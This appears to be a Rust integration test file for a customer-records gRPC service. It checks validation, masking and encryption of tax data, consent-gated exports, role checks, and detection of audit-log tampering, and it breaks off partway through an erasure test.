//! The customers API through a real tonic client, on SQLite and PostgreSQL.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::{TestApp, new_customer, uscc, violations};
use kefu_kit::auth::Role;
use kefu_proto::customers::v1 as pb;
use sqlx::Row;
use tonic::Code;

on_both_backends!(
    create_and_get_with_contacts_is_idempotent,
    bad_input_names_the_field_and_changes_nothing,
    uscc_override_uniqueness_and_archive,
    update_with_mask_and_etag,
    search_and_stable_pagination,
    contacts_keep_one_primary,
    tax_profile_is_encrypted_masked_and_audited,
    audit_chain_names_the_tampered_entry,
    an_audit_chain_rewritten_with_database_access_is_caught,
    consent_gates_third_party_export,
    erasure_purges_personal_data_and_locks_the_record,
    follow_ups_are_scheduled_listed_and_recorded,
    greetings_list_targets_and_never_duplicate,
    import_reports_bad_rows_and_reruns_create_nothing,
    an_import_of_many_bad_rows_counts_them_all_and_lists_the_first_thousand,
    lists_mask_contacts_and_every_clear_read_is_in_the_access_log,
    values_a_spreadsheet_would_run_as_formulas_are_refused,
    missing_and_bad_tokens_are_unauthenticated,
    every_rpc_checks_the_callers_role,
    concurrent_retries_of_one_create_make_one_customer,
    a_request_id_from_before_the_kit_table_answers_with_its_customer,
    out_of_range_timestamps_name_the_field,
    control_characters_and_unbounded_tags_are_refused,
    violations_of_the_customer_and_its_contacts_come_back_together,
    unique_clashes_speak_the_domains_words,
    unknown_enum_values_list_the_valid_names,
);

async fn create(app: &TestApp, name: &str, n: u32) -> pb::Customer {
    app.agent().create_customer(new_customer(name, &uscc(n))).await.unwrap().into_inner()
}

async fn count_customers(app: &TestApp) -> i64 {
    sqlx::query("SELECT COUNT(*) FROM customers").fetch_one(&app.raw).await.unwrap().get::<i64, _>(0)
}

async fn create_and_get_with_contacts_is_idempotent(app: TestApp) {
    let mut c = app.agent();
    let mut req = new_customer("北京示例科技有限公司", "91110000600037341L");
    req.request_id = "req-1".into();
    let created = c.create_customer(req.clone()).await.unwrap().into_inner();
    assert_eq!(created.uscc, "91110000600037341L");
    assert!(!created.uscc_check_failed);
    assert_eq!(created.contacts.len(), 1);
    assert!(created.contacts[0].primary);
    assert!(created.contacts[0].mobile.ends_with("8000"), "the answer to a person masks the phone");
    assert!(created.contacts[0].mobile.starts_with('*'), "{}", created.contacts[0].mobile);
    assert_eq!(created.lifecycle_status, pb::LifecycleStatus::Active as i32);
    assert!(!created.etag.is_empty());

    let again = c.create_customer(req).await.unwrap().into_inner();
    assert_eq!(again.id, created.id, "same request_id, same customer");
    assert_eq!(count_customers(&app).await, 1);

    let got = c
        .get_customer(pb::GetCustomerRequest { id: created.id.clone(), omit_contacts: false })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(got.company_name, "北京示例科技有限公司");
    assert_eq!(got.contacts[0].mobile, "13800138000", "mobile normalised");
    assert_eq!(got.tags, vec!["monthly-filing".to_string()]);
    assert_eq!(got.preferences.unwrap().preferred_channel, kefu_proto::common::v1::Channel::Wechat as i32);

    let missing = c
        .get_customer(pb::GetCustomerRequest { id: uuid::Uuid::now_v7().to_string(), omit_contacts: false })
        .await
        .unwrap_err();
    assert_eq!(missing.code(), Code::NotFound);
    let bad =
        c.get_customer(pb::GetCustomerRequest { id: "not-an-id".into(), omit_contacts: false }).await.unwrap_err();
    assert_eq!(bad.code(), Code::InvalidArgument);
}

async fn bad_input_names_the_field_and_changes_nothing(app: TestApp) {
    let mut c = app.agent();
    let mut req = new_customer("", "91110000600037341A");
    req.contacts[0].mobile = "12345".into();
    req.contacts[0].email = "not-an-email".into();
    let err = c.create_customer(req).await.unwrap_err();
    assert_eq!(err.code(), Code::InvalidArgument);
    let fields = violations(&err);
    for f in ["customer.company_name", "customer.uscc"] {
        assert!(fields.contains(&f.to_string()), "{f} missing from {fields:?}");
    }
    let err = c.create_customer(new_customer("X", &uscc(1))).await.map(|_| ());
    assert!(err.is_ok());
    let mut bad_contact = new_customer("Y", &uscc(2));
    bad_contact.contacts[0].mobile = "12345".into();
    let err = c.create_customer(bad_contact).await.unwrap_err();
    assert!(violations(&err).contains(&"contacts[0].mobile".to_string()), "{:?}", violations(&err));

    let mut oversized = new_customer(&"名".repeat(500), &uscc(3));
    oversized.customer.as_mut().unwrap().taxpayer_type = 99;
    let err = c.create_customer(oversized).await.unwrap_err();
    let fields = violations(&err);
    assert!(
        fields.contains(&"customer.company_name".to_string()) && fields.contains(&"customer.taxpayer_type".to_string())
    );
    let err = c.create_customer(pb::CreateCustomerRequest::default()).await.unwrap_err();
    assert_eq!(err.code(), Code::InvalidArgument);
    assert!(err.message().contains("customer"));
    assert_eq!(count_customers(&app).await, 1, "only the valid request wrote anything");
}

async fn uscc_override_uniqueness_and_archive(app: TestApp) {
    let mut c = app.agent();
    let mut pilot = new_customer("試點企業", "91110000600037341A");
    pilot.allow_invalid_uscc_checksum = true;
    let p = c.create_customer(pilot).await.unwrap().into_inner();
    assert!(p.uscc_check_failed, "accepted with the flag");

    let first = create(&app, "甲", 10).await;
    let dup = c.create_customer(new_customer("乙", &uscc(10))).await.unwrap_err();
    assert_eq!(dup.code(), Code::AlreadyExists);

    let agent_archive =
        c.archive_customer(pb::ArchiveCustomerRequest { id: first.id.clone(), etag: String::new() }).await.unwrap_err();
    assert_eq!(agent_archive.code(), Code::PermissionDenied);
    let mut sup = app.client(Role::Supervisor);
    let archived = sup
        .archive_customer(pb::ArchiveCustomerRequest { id: first.id.clone(), etag: first.etag.clone() })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(archived.lifecycle_status, pb::LifecycleStatus::Archived as i32);
    // The USCC is free again for a live customer.
    c.create_customer(new_customer("乙", &uscc(10))).await.unwrap();
    let listed =
        c.list_customers(pb::ListCustomersRequest { uscc: uscc(10), ..Default::default() }).await.unwrap().into_inner();
    assert_eq!(listed.customers.len(), 1);
    let all = c
        .list_customers(pb::ListCustomersRequest { uscc: uscc(10), include_archived: true, ..Default::default() })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(all.customers.len(), 2);
}

async fn update_with_mask_and_etag(app: TestApp) {
    let mut c = app.agent();
    let cust = create(&app, "原名", 20).await;
    let patch = pb::Customer {
        id: cust.id.clone(),
        etag: cust.etag.clone(),
        company_name: "新名".into(),
        region: "ignored".into(),
        ..Default::default()
    };
    let updated = c
        .update_customer(pb::UpdateCustomerRequest {
            customer: Some(patch.clone()),
            update_mask: Some(prost_types::FieldMask { paths: vec!["company_name".into()] }),
            allow_invalid_uscc_checksum: false,
        })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(updated.company_name, "新名");
    assert_eq!(updated.region, "上海", "fields outside the mask are kept");
    assert_ne!(updated.etag, cust.etag);

    let stale = c
        .update_customer(pb::UpdateCustomerRequest {
            customer: Some(patch.clone()),
            update_mask: Some(prost_types::FieldMask { paths: vec!["company_name".into()] }),
            allow_invalid_uscc_checksum: false,
        })
        .await
        .unwrap_err();
    assert_eq!(stale.code(), Code::Aborted);

    let mut p2 = patch.clone();
    p2.etag = updated.etag.clone();
    let bad_path = c
        .update_customer(pb::UpdateCustomerRequest {
            customer: Some(p2.clone()),
            update_mask: Some(prost_types::FieldMask { paths: vec!["id".into()] }),
            allow_invalid_uscc_checksum: false,
        })
        .await
        .unwrap_err();
    assert_eq!(bad_path.code(), Code::InvalidArgument);
    assert!(violations(&bad_path).contains(&"update_mask".to_string()));

    p2.preferences = Some(pb::Preferences { greeting_opt_in: false, ..Default::default() });
    let prefs = c
        .update_customer(pb::UpdateCustomerRequest {
            customer: Some(p2),
            update_mask: Some(prost_types::FieldMask { paths: vec!["preferences.greeting_opt_in".into()] }),
            allow_invalid_uscc_checksum: false,
        })
        .await
        .unwrap()
        .into_inner();
    let p = prefs.preferences.unwrap();
    assert!(!p.greeting_opt_in);
    assert_eq!(p.preferred_channel, kefu_proto::common::v1::Channel::Wechat as i32, "sibling preference kept");

    let audit = app
        .client(Role::Auditor)
        .list_audit_entries(pb::ListAuditEntriesRequest { customer_id: cust.id.clone(), ..Default::default() })
        .await
        .unwrap()
        .into_inner();
    assert!(audit.entries.iter().any(|e| e.action == "customer.update" && e.detail == "company_name"));
}

async fn search_and_stable_pagination(app: TestApp) {
    let mut c = app.agent();
    for i in 0..5 {
        let mut req = new_customer(&format!("Alpha Trading {i}"), &uscc(100 + i));
        req.contacts[0].mobile = format!("1390000000{i}");
        req.contacts[0].email = format!("c{i}@Example.cn");
        if i == 3 {
            req.customer.as_mut().unwrap().tags = vec!["vip-audit".into()];
            req.customer.as_mut().unwrap().service_tier = pb::ServiceTier::Standard as i32;
        }
        c.create_customer(req).await.unwrap();
    }
    create(&app, "Beta 100%_Co", 200).await;

    let by_name = c
        .list_customers(pb::ListCustomersRequest { name_contains: "alpha".into(), ..Default::default() })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(by_name.customers.len(), 5);
    let literal = c
        .list_customers(pb::ListCustomersRequest { name_contains: "100%_".into(), ..Default::default() })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(literal.customers.len(), 1, "% and _ match literally");
    // A rename moves the customer in the name index: found by the new name's
    // fragments (short and long, Chinese and Latin), no longer by the old.
    let beta = c
        .list_customers(pb::ListCustomersRequest { name_contains: "beta".into(), ..Default::default() })
        .await
        .unwrap()
        .into_inner()
        .customers
        .remove(0);
    c.update_customer(pb::UpdateCustomerRequest {
        customer: Some(pb::Customer {
            id: beta.id.clone(),
            etag: beta.etag.clone(),
            company_name: "北京示例咨询有限公司".into(),
            ..Default::default()
        }),
        update_mask: Some(prost_types::FieldMask { paths: vec!["company_name".into()] }),
        allow_invalid_uscc_checksum: false,
    })
    .await
    .unwrap();
    let names = |fragment: &'static str| {
        let mut c = c.clone();
        async move {
            c.list_customers(pb::ListCustomersRequest { name_contains: fragment.into(), ..Default::default() })
                .await
                .unwrap()
                .into_inner()
                .customers
                .into_iter()
                .map(|x| x.company_name)
                .collect::<Vec<_>>()
        }
    };
    assert_eq!(names("示例咨询").await, ["北京示例咨询有限公司"]);
    assert_eq!(names("示例").await, ["北京示例咨询有限公司"], "two characters: found without the index");
    assert!(names("100%_").await.is_empty(), "the old name is gone from the index");
    assert!(names("beta 100").await.is_empty());
    let by_phone = c
        .list_customers(pb::ListCustomersRequest { contact_phone: "+86 139 0000 0002".into(), ..Default::default() })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(by_phone.customers.len(), 1);
    assert_eq!(by_phone.customers[0].company_name, "Alpha Trading 2");
    let by_email = c
        .list_customers(pb::ListCustomersRequest { contact_email: "C4@example.CN".into(), ..Default::default() })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(by_email.customers[0].company_name, "Alpha Trading 4");
    let by_contact = |name: &str| {
        let mut c = app.agent();
        let name = name.to_owned();
        async move {
            let r = c.list_customers(pb::ListCustomersRequest { contact_name: name, ..Default::default() }).await;
            r.unwrap().into_inner().customers.len()
        }
    };
    let all = by_contact("王芳").await;
    assert!(all >= 5, "every customer made here has 王芳 for a contact: {all}");
    assert_eq!(by_contact("王").await, all, "by the family name");
    assert_eq!(by_contact("王芳芳").await, 0);
    assert_eq!(by_contact("芳").await, 0, "a name is matched from its beginning");
    assert_eq!(by_contact("王%").await, 0, "wildcards are literal");
    let by_tag = c
        .list_customers(pb::ListCustomersRequest { tag: "vip-audit".into(), ..Default::default() })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(by_tag.customers.len(), 1);
    let by_tier = c
        .list_customers(pb::ListCustomersRequest {
            service_tier: pb::ServiceTier::Standard as i32,
            ..Default::default()
        })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(by_tier.customers.len(), 1);

    // The searches are served by indexes, not by reading every customer: a
    // phone number through the contacts' index (both backends), a name
    // fragment through a trigram index (PostgreSQL).
    let plan = |sql: String| {
        let raw = app.raw.clone();
        async move {
            let mut conn = raw.acquire().await.unwrap();
            let postgres = conn.backend_name() == "PostgreSQL";
            let explain = if postgres {
                // Tables this small are read whole whatever the indexes;
                // forbidding that shows which index the search can use.
                sqlx::query("SET enable_seqscan = off").execute(&mut *conn).await.unwrap();
                format!("EXPLAIN {sql}")
            } else {
                format!("EXPLAIN QUERY PLAN {sql}")
            };
            let rows = sqlx::query(&explain).fetch_all(&mut *conn).await.unwrap();
            let text: Vec<String> =
                rows.iter().map(|r| r.try_get::<String, _>(if postgres { 0 } else { 3 }).unwrap_or_default()).collect();
            (postgres, text.join("\n"))
        }
    };
    let (postgres, by_phone_plan) = plan(
        "SELECT c.id FROM customers c WHERE c.live = 1 AND c.id IN \
         (SELECT x.customer_id FROM contacts x WHERE x.mobile = '13900000002') ORDER BY c.id LIMIT 50"
            .into(),
    )
    .await;
    assert!(by_phone_plan.contains("contacts_mobile"), "phone search uses the contacts' index:\n{by_phone_plan}");
    if postgres {
        let (_, by_name_plan) =
            plan("SELECT c.id FROM customers c WHERE c.company_name_lower LIKE '%trading%' LIMIT 50".into()).await;
        assert!(
            by_name_plan.contains("customers_company_name_lower_trgm"),
            "name search can use the trigram index:\n{by_name_plan}"
        );
    }

    let mut seen = Vec::new();
    let mut token = String::new();
    loop {
        let page = c
            .list_customers(pb::ListCustomersRequest { page_size: 2, page_token: token.clone(), ..Default::default() })
            .await
            .unwrap()
            .into_inner();
        assert!(page.customers.len() <= 2);
        seen.extend(page.customers.into_iter().map(|x| x.id));
        if page.next_page_token.is_empty() {
            break;
        }
        token = page.next_page_token;
    }
    assert_eq!(seen.len(), 6);
    let mut sorted = seen.clone();
    sorted.sort();
    sorted.dedup();
    assert_eq!(sorted, seen, "each customer once, in a stable order");

    let bad = c
        .list_customers(pb::ListCustomersRequest { page_token: "garbage".into(), ..Default::default() })
        .await
        .unwrap_err();
    assert!(violations(&bad).contains(&"page_token".to_string()));
    let bad = c
        .list_customers(pb::ListCustomersRequest { contact_phone: "abc".into(), ..Default::default() })
        .await
        .unwrap_err();
    assert!(violations(&bad).contains(&"contact_phone".to_string()));
}

async fn contacts_keep_one_primary(app: TestApp) {
    let mut c = app.agent();
    let cust = create(&app, "聯繫人測試", 30).await;
    let second = c
        .create_contact(pb::CreateContactRequest {
            customer_id: cust.id.clone(),
            contact: Some(pb::Contact {
                name: "李雷".into(),
                email: "li@example.cn".into(),
                primary: true,
                ..Default::default()
            }),
        })
        .await
        .unwrap()
        .into_inner();
    assert!(second.primary);
    let got = c
        .get_customer(pb::GetCustomerRequest { id: cust.id.clone(), omit_contacts: false })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(got.contacts.iter().filter(|x| x.primary).count(), 1);
    assert_eq!(got.contacts.iter().find(|x| x.primary).unwrap().id, second.id);

    let no_way = c
        .create_contact(pb::CreateContactRequest {
            customer_id: cust.id.clone(),
            contact: Some(pb::Contact { name: "無".into(), ..Default::default() }),
        })
        .await
        .unwrap_err();
    assert_eq!(no_way.code(), Code::InvalidArgument);

    let upd = c
        .update_contact(pb::UpdateContactRequest {
            contact: Some(pb::Contact { id: second.id.clone(), mobile: "13700137000".into(), ..Default::default() }),
            update_mask: Some(prost_types::FieldMask { paths: vec!["mobile".into()] }),
        })
        .await
        .unwrap()
        .into_inner();
    assert!(upd.mobile.ends_with("7000") && upd.mobile.starts_with('*'), "masked in the answer: {}", upd.mobile);
    assert_eq!(upd.name, "李雷");
    let read = c
        .get_customer(pb::GetCustomerRequest { id: cust.id.clone(), omit_contacts: false })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(read.contacts.iter().find(|x| x.id == second.id).unwrap().mobile, "13700137000");

    c.delete_contact(pb::DeleteContactRequest { customer_id: cust.id.clone(), contact_id: second.id.clone() })
        .await
        .unwrap();
    let got = c
        .get_customer(pb::GetCustomerRequest { id: cust.id.clone(), omit_contacts: false })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(got.contacts.len(), 1);
    assert!(got.contacts[0].primary, "the remaining contact becomes primary");
}

async fn tax_profile_is_encrypted_masked_and_audited(app: TestApp) {
    let mut agent = app.agent();
    let cust = create(&app, "稅務資料", 40).await;
    let written = agent
        .update_tax_profile(pb::UpdateTaxProfileRequest {
            tax_profile: Some(pb::TaxProfile {
                customer_id: cust.id.clone(),
                tax_registration_number: uscc(40),
                tax_authority: "國家稅務總局上海市稅務局".into(),
                revenue_band: "10M-50M CNY".into(),
                tax_status_notes: "2025 年度匯算清繳已完成".into(),
                ..Default::default()
            }),
            purpose: "onboarding".into(),
        })
        .await
        .unwrap()
        .into_inner();
    assert!(written.masked);
    common::set_bank_account(&app, &cust.id, "招商銀行", "6225 8812 3456 7890").await;

    let raw = sqlx::query("SELECT ciphertext FROM tax_profiles WHERE customer_id = $1")
        .bind(&cust.id)
        .fetch_one(&app.raw)
        .await
        .unwrap();
    let ct: String = raw.get(0);
    for plain in ["6225", "7890", "10M-50M", "招商"] {
        assert!(!ct.contains(plain), "ciphertext shows {plain}");
    }

    let masked = agent
        .get_tax_profile(pb::GetTaxProfileRequest { customer_id: cust.id.clone(), ..Default::default() })
        .await
        .unwrap()
        .into_inner();
    assert!(masked.masked);
    assert!(masked.bank_account.ends_with("7890") && !masked.bank_account.contains("6225"));
    assert_eq!(masked.revenue_band, "******");

    let refused = agent
        .get_tax_profile(pb::GetTaxProfileRequest {
            customer_id: cust.id.clone(),
            unmasked: true,
            purpose: "curious".into(),
        })
        .await
        .unwrap_err();
    assert_eq!(refused.code(), Code::PermissionDenied);

    let mut sup = app.client(Role::Supervisor);
    let no_purpose = sup
        .get_tax_profile(pb::GetTaxProfileRequest { customer_id: cust.id.clone(), unmasked: true, purpose: " ".into() })
        .await
        .unwrap_err();
    assert!(violations(&no_purpose).contains(&"purpose".to_string()));
    let clear = sup
        .get_tax_profile(pb::GetTaxProfileRequest {
            customer_id: cust.id.clone(),
            unmasked: true,
            purpose: "annual filing review".into(),
        })
        .await
        .unwrap()
        .into_inner();
    assert!(!clear.masked);
    assert_eq!(clear.bank_account, "6225 8812 3456 7890");

    let audit = app
        .client(Role::Auditor)
        .list_audit_entries(pb::ListAuditEntriesRequest { customer_id: cust.id.clone(), ..Default::default() })
        .await
        .unwrap()
        .into_inner();
    let reads: Vec<_> = audit.entries.iter().filter(|e| e.action == "tax_profile.read").collect();
    assert_eq!(reads.len(), 1, "exactly the one unmasked read is audited");
    assert_eq!(reads[0].purpose, "annual filing review");
    assert_eq!(reads[0].actor, "supervisor-1");
    assert!(audit.entries.iter().all(|e| !e.detail.contains("6225")), "no sensitive value in the trail");
}

async fn audit_chain_names_the_tampered_entry(app: TestApp) {
    for i in 0..4 {
        create(&app, &format!("鏈{i}"), 50 + i).await;
    }
    let mut auditor = app.client(Role::Auditor);
    let ok = auditor.verify_audit_chain(pb::VerifyAuditChainRequest::default()).await.unwrap().into_inner();
    assert!(ok.intact, "{}", ok.problem);
    assert_eq!((ok.entries_checked, ok.head_seq), (4, 4));

    let denied = app.agent().verify_audit_chain(pb::VerifyAuditChainRequest::default()).await.unwrap_err();
    assert_eq!(denied.code(), Code::PermissionDenied);

    sqlx::query("UPDATE audit_log SET actor = 'someone-else' WHERE seq = 3").execute(&app.raw).await.unwrap();
    let bad = auditor.verify_audit_chain(pb::VerifyAuditChainRequest::default()).await.unwrap().into_inner();
    assert!(!bad.intact);
    assert_eq!(bad.first_bad_seq, 3);
    assert!(bad.problem.contains("altered"), "{}", bad.problem);

    sqlx::query("DELETE FROM audit_log WHERE seq = 2").execute(&app.raw).await.unwrap();
    let removed = auditor.verify_audit_chain(pb::VerifyAuditChainRequest::default()).await.unwrap().into_inner();
    assert_eq!(removed.first_bad_seq, 2);
    assert!(removed.problem.contains("missing"), "{}", removed.problem);
}

/// What someone who can write the database file but does not hold the
/// audit key tries, and how each is caught.
async fn an_audit_chain_rewritten_with_database_access_is_caught(app: TestApp) {
    use sha2::{Digest, Sha256};
    let cust = create(&app, "審計", 70).await;
    let mut sup = app.client(Role::Supervisor);
    sup.update_tax_profile(pb::UpdateTaxProfileRequest {
        tax_profile: Some(pb::TaxProfile {
            customer_id: cust.id.clone(),
            tax_registration_number: uscc(70),
            ..Default::default()
        }),
        purpose: "onboarding".into(),
    })
    .await
    .unwrap();
    // Someone holding both roles reads unmasked: the trail names the role
    // that allowed it, not merely the first in the token.
    let both =
        app.suite.signer.mint("lead-1", &[Role::Agent, Role::Supervisor], std::time::Duration::from_secs(60)).unwrap();
    app.client_with_token(Some(&both))
        .get_tax_profile(pb::GetTaxProfileRequest {
            customer_id: cust.id.clone(),
            unmasked: true,
            purpose: "查賬".into(),
        })
        .await
        .unwrap();
    for i in 0..3 {
        create(&app, &format!("後{i}"), 71 + i).await;
    }
    let mut auditor = app.client(Role::Auditor);
    let entries =
        auditor.list_audit_entries(pb::ListAuditEntriesRequest::default()).await.unwrap().into_inner().entries;
    let read = entries.iter().find(|e| e.action == "tax_profile.read").unwrap();
    assert_eq!((read.actor.as_str(), read.actor_role.as_str()), ("lead-1", "supervisor"));
    assert!(entries.iter().all(|e| !e.key_id.is_empty() && e.hash.len() == 64), "every entry is signed");

    let good = auditor.verify_audit_chain(pb::VerifyAuditChainRequest::default()).await.unwrap().into_inner();
    assert!(good.intact, "{}", good.problem);
    // The checkpoint an outside system keeps.
    let (cp_seq, cp_hash) = (good.head_seq, good.head_hash.clone());
    let with_checkpoint = pb::VerifyAuditChainRequest { checkpoint_seq: cp_seq, checkpoint_hash: cp_hash.clone() };
    assert!(auditor.verify_audit_chain(with_checkpoint.clone()).await.unwrap().into_inner().intact);

    let snapshot: Vec<(i64, String, String, String)> =
        sqlx::query_as("SELECT seq, action, hash, prev_hash FROM audit_log ORDER BY seq")
            .fetch_all(&app.raw)
            .await
            .unwrap();

    // 1. The unmasked read relabelled as a harmless update, and every later
    //    hash recomputed the way an unkeyed chain would be.
    let mut prev = String::new();
    type Row = (i64, i64, String, String, String, String, String, String);
    let rows: Vec<Row> = sqlx::query_as(
        "SELECT seq, at, actor, actor_role, action, subject, detail, purpose FROM audit_log ORDER BY seq",
    )
    .fetch_all(&app.raw)
    .await
    .unwrap();
    for (seq, at, actor, role, action, subject, detail, purpose) in rows {
        let action = if action == "tax_profile.read" { "customer.update".to_owned() } else { action };
        let mut h = Sha256::new();
        h.update(b"kefu.audit.v1");
        h.update(seq.to_be_bytes());
        h.update(at.to_be_bytes());
        for f in [&actor, &role, &action, &subject, &detail, &purpose, &prev] {
            h.update((f.len() as u64).to_be_bytes());
            h.update(f.as_bytes());
        }
        let hash = hex::encode(h.finalize());
        sqlx::query("UPDATE audit_log SET action = $1, prev_hash = $2, hash = $3 WHERE seq = $4")
            .bind(&action)
            .bind(&prev)
            .bind(&hash)
            .bind(seq)
            .execute(&app.raw)
            .await
            .unwrap();
        prev = hash;
    }
    sqlx::query("UPDATE audit_head SET hash = $1 WHERE id = 1").bind(&prev).execute(&app.raw).await.unwrap();
    let rewritten = auditor.verify_audit_chain(pb::VerifyAuditChainRequest::default()).await.unwrap().into_inner();
    assert!(!rewritten.intact, "a recomputed chain without the key is caught");
    assert_eq!(rewritten.first_bad_seq, 1, "{}", rewritten.problem);
    // The same rewrite with the entries passed off as from before keying.
    sqlx::query("UPDATE audit_log SET key_id = ''").execute(&app.raw).await.unwrap();
    let unkeyed = auditor.verify_audit_chain(pb::VerifyAuditChainRequest::default()).await.unwrap().into_inner();
    assert!(!unkeyed.intact, "a chain passed off as unsigned is caught without a checkpoint");
    assert_eq!(unkeyed.first_bad_seq, 1, "{}", unkeyed.problem);
    assert!(unkeyed.problem.contains("not signed"), "{}", unkeyed.problem);

    // Restore the genuine chain.
    let restore = |snapshot: Vec<(i64, String, String, String)>| {
        let raw = app.raw.clone();
        async move {
            for (seq, action, hash, prev) in snapshot {
                sqlx::query("UPDATE audit_log SET action = $1, hash = $2, prev_hash = $3 WHERE seq = $4")
                    .bind(action)
                    .bind(hash)
                    .bind(prev)
                    .bind(seq)
                    .execute(&raw)
                    .await
                    .unwrap();
            }
        }
    };
    restore(snapshot.clone()).await;
    let key_id = entries[0].key_id.clone();
    sqlx::query("UPDATE audit_log SET key_id = $1").bind(&key_id).execute(&app.raw).await.unwrap();
    sqlx::query("UPDATE audit_head SET hash = $1 WHERE id = 1").bind(&cp_hash).execute(&app.raw).await.unwrap();
    assert!(auditor.verify_audit_chain(with_checkpoint.clone()).await.unwrap().into_inner().intact, "restored");

    // 2. The last entry deleted and the head moved back to the one before.
    let (last_seq, _, _, last_prev) = snapshot.last().unwrap().clone();
    sqlx::query("DELETE FROM audit_log WHERE seq = $1").bind(last_seq).execute(&app.raw).await.unwrap();
    sqlx::query("UPDATE audit_head SET seq = $1, hash = $2 WHERE id = 1")
        .bind(last_seq - 1)
        .bind(&last_prev)
        .execute(&app.raw)
        .await
        .unwrap();
    let cut = auditor.verify_audit_chain(with_checkpoint.clone()).await.unwrap().into_inner();
    assert!(!cut.intact, "a chain cut short fails its checkpoint");
    assert_eq!(cut.first_bad_seq, last_seq, "{}", cut.problem);
    assert!(cut.problem.contains("removed"), "{}", cut.problem);

    // 3. The log wiped and the head reset.
    sqlx::query("DELETE FROM audit_log").execute(&app.raw).await.unwrap();
    sqlx::query("UPDATE audit_head SET seq = 0, hash = '' WHERE id = 1").execute(&app.raw).await.unwrap();
    let wiped = auditor.verify_audit_chain(with_checkpoint).await.unwrap().into_inner();
    assert!(!wiped.intact, "a wiped log fails its checkpoint");
    assert!(wiped.problem.contains("removed"), "{}", wiped.problem);

    // A malformed checkpoint is refused naming the field.
    let bad = auditor
        .verify_audit_chain(pb::VerifyAuditChainRequest { checkpoint_seq: 3, checkpoint_hash: "zz".into() })
        .await
        .unwrap_err();
    assert!(violations(&bad).contains(&"checkpoint_hash".to_string()), "{bad:?}");
}

async fn consent_gates_third_party_export(app: TestApp) {
    let mut agent = app.agent();
    let mut sup = app.client(Role::Supervisor);
    let cust = create(&app, "同意書", 60).await;
    let export = |recipient: &str, cats: Vec<i32>, approval: &str| pb::ExportCustomerDataRequest {
        customer_id: cust.id.clone(),
        recipient: recipient.into(),
        purpose: "bank loan application".into(),
        data_categories: cats,
        approval_id: approval.into(),
    };
    let contacts_cat = pb::DataCategory::Contacts as i32;
    let tax_cat = pb::DataCategory::TaxFinancial as i32;
    let refused = sup.export_customer_data(export("招商銀行", vec![contacts_cat], "")).await.unwrap_err();
    assert_eq!(refused.code(), Code::FailedPrecondition);

    let consent = agent
        .create_consent(pb::CreateConsentRequest {
            consent: Some(pb::Consent {
                customer_id: cust.id.clone(),
                purpose: "loan application".into(),
                recipient: "招商銀行".into(),
                data_categories: vec![contacts_cat],
                evidence: "signed form #77".into(),
                ..Default::default()
            }),
        })
        .await
        .unwrap()
        .into_inner();
    assert!(consent.live);
    // A consent alone is not enough: a second person approves the disclosure.
    let alone = sup.export_customer_data(export("招商銀行", vec![contacts_cat], "")).await.unwrap_err();
    assert_eq!(alone.code(), Code::FailedPrecondition);
    assert!(alone.message().contains("second person"), "{}", alone.message());
    let approval = common::approved_disclosure(&app, &cust.id, "招商銀行", vec![contacts_cat]).await;
    let doc = sup
        .export_customer_data(export("招商銀行", vec![contacts_cat], &approval))
        .await
        .unwrap()
        .into_inner()
        .document;
    let json: serde_json::Value = serde_json::from_str(&doc).unwrap();
    assert_eq!(json["contacts"][0]["mobile"], "13800138000");
    assert!(json.get("tax_profile").is_none());

    let wider = sup.export_customer_data(export("招商銀行", vec![contacts_cat, tax_cat], "")).await.unwrap_err();
    assert_eq!(wider.code(), Code::FailedPrecondition, "categories beyond the consent");
    let other = sup.export_customer_data(export("另一家銀行", vec![contacts_cat], "")).await.unwrap_err();
    assert_eq!(other.code(), Code::FailedPrecondition);

    agent
        .revoke_consent(pb::RevokeConsentRequest { customer_id: cust.id.clone(), consent_id: consent.id.clone() })
        .await
        .unwrap();
    let after = sup.export_customer_data(export("招商銀行", vec![contacts_cat], "")).await.unwrap_err();
    assert_eq!(after.code(), Code::FailedPrecondition);

    // A copy for the data subject itself needs no third-party consent.
    let own = sup.export_customer_data(export("", vec![], "")).await.unwrap().into_inner().document;
    assert!(own.contains("同意書"));
    let listed =
        agent.list_consents(pb::ListConsentsRequest { customer_id: cust.id.clone() }).await.unwrap().into_inner();
    assert!(!listed.consents[0].live);
    let exports = app
        .client(Role::Auditor)
        .list_audit_entries(pb::ListAuditEntriesRequest { customer_id: cust.id.clone(), ..Default::default() })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(exports.entries.iter().filter(|e| e.action == "customer.export").count(), 2);
}

async fn erasure_purges_personal_data_and_locks_the_record(app: TestApp) {
    let cust = create(&app, "刪除請求", 70).await;
    let mut admin = app.client(Role::Admin);
    let refused = app
        .agent()
        .erase_customer(pb::EraseCustomerRequest { id: cust.id.clone(), reason: "x".into() })
        .await
        .unwrap_err();
    assert_eq!(refused.code(), Code::PermissionDenied);
    let no_reason = admin
        .erase_customer(pb::EraseCustomerRequest { id: cust.id.clone(), reason: String::new() })
        .await
        .unwrap_err();
    assert_eq!(no_reason.code(), Code::InvalidArgument);
    // One person alone cannot erase: the call names the four-eyes steps.
    let alone = admin
        .erase_customer(pb::EraseCustomerRequest { id: cust.id.clone(), reason: "PIPL art. 47 request #12".into() })
        .await
        .unwrap_err();
    assert_eq!(alone.code(), Code::FailedPrecondition);
    assert!(alone.message().contains("ProposeChange"), "{}", alone.message());
    common::set_bank_account(&app, &cust.id, "招商银行", "6225 0000 1111 2222").await;
    let sealed: (String,) = sqlx::query_as("SELECT key_id FROM tax_profiles WHERE customer_id = $1")
        .bind(&cust.id)
        .fetch_one(&app.raw)
        .await
        .unwrap();
    assert_eq!(sealed.0, "customer-key", "the profile is sealed with the customer's own data key");
    let untouched = admin.get_customer(pb::GetCustomerRequest { id: cust.id.clone(), omit_contacts: false }).await;
    assert_eq!(untouched.unwrap().into_inner().lifecycle_status, cust.lifecycle_status, "the refusal changed nothing");
